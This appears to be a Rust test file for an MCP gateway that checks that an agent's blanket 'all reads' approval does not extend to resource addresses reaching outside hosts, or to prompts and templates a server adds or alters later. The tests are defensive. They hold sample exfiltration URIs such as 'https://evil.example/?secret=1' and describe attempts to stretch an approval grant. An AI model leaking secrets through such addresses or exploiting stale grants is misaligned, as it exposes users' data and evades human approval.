//! A server and an agent try to have "all reads" cover what nobody meant by it: addresses that the agent chooses, and
//! prompts and templates that came later. Each test says what it tried and what stopped it.
#![allow(missing_docs, reason = "a test binary has no public items")]

use std::thread::JoinHandle;
use std::time::Instant;

use anyhow::{Context, Result, ensure};
use gatehouse_tests::asks;
use gatehouse_tests::fixture::{LATE_PROMPT, LATE_RESOURCE};
use gatehouse_tests::gatehouse::Gatehouse;
use gatehouse_tests::http::{Answer, modern, post};
use gatehouse_tests::lines::PATIENCE;
use gatehouse_tests::server::{Over, Upstream, add};
use serde_json::{Value, json};

struct Agent {
    gatehouse: Gatehouse,
    token: String,
    _upstream: Upstream,
}

impl Agent {
    fn with_all_reads(fault: &str) -> Result<Self> {
        let gatehouse = Gatehouse::start()?;
        let upstream = add(&gatehouse, "raw", Over::Http, &["--fault", fault])?;
        gatehouse.ask(&["policy", "auto-approve", "raw", "reads"])?;
        let token = gatehouse.add_client("agent")?;
        Ok(Self { gatehouse, token, _upstream: upstream })
    }

    fn begin(&self, method: &'static str, member: &str, name: &str) -> JoinHandle<Result<Answer>> {
        let mut params = json!({ "_meta": {
            "io.modelcontextprotocol/protocolVersion": "2026-07-28",
            "io.modelcontextprotocol/clientInfo": { "name": "bytes", "version": "1" },
            "io.modelcontextprotocol/clientCapabilities": {},
        } });
        params[member] = json!(name);
        let body = json!({ "jsonrpc": "2.0", "id": 1, "method": method, "params": params }).to_string();
        let (endpoint, name) = (self.gatehouse.endpoint.clone(), name.to_owned());
        let authorization = format!("Bearer {}", self.token);
        std::thread::spawn(move || {
            let headers = [
                ("Authorization", authorization.as_str()),
                ("Content-Type", "application/json"),
                ("Accept", "application/json, text/event-stream"),
                ("MCP-Protocol-Version", "2026-07-28"),
                ("Mcp-Method", method),
                ("Mcp-Name", name.as_str()),
            ];
            post(&endpoint, &headers, body.as_bytes())
        })
    }

    fn runs(&self, method: &'static str, member: &str, name: &str) -> Result<()> {
        let end = self.begin(method, member, name).join().map_err(|_| anyhow::anyhow!("broke off"))??;
        ensure!(end.body.contains("\"result\""), "{name} did not run: {end:?}");
        Ok(())
    }

    /// Asks, denies the question that has to come, and returns it.
    fn is_asked(&self, method: &'static str, member: &str, name: &str) -> Result<Value> {
        let call = self.begin(method, member, name);
        let question =
            asks::waiting(&self.gatehouse, 1).with_context(|| format!("{name} was not asked"))?.remove(0);
        self.gatehouse.ask(&["approvals", "answer", question["id"].as_str().context("id")?, "deny"])?;
        let end = call.join().map_err(|_| anyhow::anyhow!("broke off"))??;
        ensure!(!end.body.contains("\"result\""), "{name} ran: {end:?}");
        Ok(question)
    }
}

/// Tried: what an agent knows, sent out in the address of a resource, through templates that take any address.
/// Stopped by: a template whose scheme or host the client chooses, or whose scheme is one of the network, reaches
/// outside, and "all reads" never covers what reaches outside.
#[test]
fn it_sends_secrets_out_in_the_address_of_a_resource() -> Result<()> {
    let agent = Agent::with_all_reads("open-templates")?;
    for own in ["fixture://note", "fixture://item/7"] {
        agent.runs("resources/read", "uri", own)?;
    }
    for outside in [
        "https://evil.example/?secret=1",
        "https://docs.example/secret",
        "ftp://evil.example/secret",
        "notes://evil.example/secret",
        "file://evil.example/share",
        "anything://evil.example",
    ] {
        let question = agent.is_asked("resources/read", "uri", outside)?;
        ensure!(question["ask"]["class"]["reachesOutside"] == true, "{question:#}");
        let wide = asks::choices(&question)?.iter().any(|choice| choice["width"] == "reads");
        ensure!(!wide, "all reads are offered for {outside}: {question:#}");
    }
    // A prompt that takes an address is no other.
    agent.is_asked("prompts/get", "name", "fetch")?;
    Ok(())
}

/// Tried: prompts and templates that the server adds or defines otherwise after all reads were allowed. Stopped by:
/// wide grants are for the definitions of prompts and templates that there were, as they are for those of tools.
/// What the server's list of resources names is covered also when it came later.
#[test]
fn a_server_adds_prompts_and_templates_after_a_wide_grant() -> Result<()> {
    let agent = Agent::with_all_reads("adds-prompts")?;
    agent.runs("prompts/get", "name", "plain")?;
    agent.runs("resources/read", "uri", "fixture://item/7")?;
    agent.gatehouse.ask(&["policy", "grant", "raw", "--tool", "mutate"])?;
    let changed =
        modern(&agent.gatehouse.endpoint, &agent.token, "tools/call", r#""name":"mutate","arguments":{}"#)?;
    ensure!(changed.body.contains("changed"), "{changed:?}");
    agent.gatehouse.ask(&["servers", "reconnect", "raw"])?;
    let deadline = Instant::now() + PATIENCE;
    while !modern(&agent.gatehouse.endpoint, &agent.token, "prompts/list", "")?.body.contains("Came later") {
        ensure!(Instant::now() < deadline, "the new prompt was never noticed");
    }

    agent.is_asked("prompts/get", "name", LATE_PROMPT)?;
    let question = agent.is_asked("prompts/get", "name", "plain")?;
    ensure!(question["ask"]["warnings"].to_string().contains("definition_changed"), "{question:#}");
    ensure!(question["ask"]["changes"].to_string().contains("tells everybody"), "{question:#}");
    agent.is_asked("resources/read", "uri", "fixture://later/7")?;
    for known in ["fixture://item/8", "fixture://note", LATE_RESOURCE] {
        agent.runs("resources/read", "uri", known)?;
    }
    Ok(())
}
